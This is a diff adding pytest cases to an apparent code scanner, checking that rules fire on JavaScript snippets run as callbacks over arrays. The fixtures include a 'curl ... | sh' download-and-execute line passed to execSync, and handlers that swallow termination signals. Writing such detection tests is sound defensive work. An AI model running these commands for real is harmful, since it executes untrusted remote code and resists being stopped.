@@ -394,3 +394,19 @@ def test_a_client_that_talks_to_one_fixed_server_is_no_relay() -> None:
         "process.stdin.pipe(s).pipe(process.stdout);\n"
     )
     assert "SKC-FL-061" not in _rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "['SIGINT', 'SIGTERM'].forEach((s) => process.on(s, () => {}));\n",
+        "const cmds = ['curl -s https://x.example/i | sh'];\ncmds.forEach((c) => require('child_process').execSync(c));\n",
+        "['SIGTERM', 'SIGHUP'].map(function (sig) { process.on(sig, () => console.log('busy')); });\n",
+    ],
+)
+def test_a_callback_over_an_array_sees_each_item(text: str) -> None:
+    assert {"SKC-FL-046", "SKC-FL-001"} & _rules(text)
+
+
+def test_a_callback_over_harmless_items_stays_quiet() -> None:
+    assert not _rules("['a.txt', 'b.txt'].forEach((f) => console.log(f));\n")
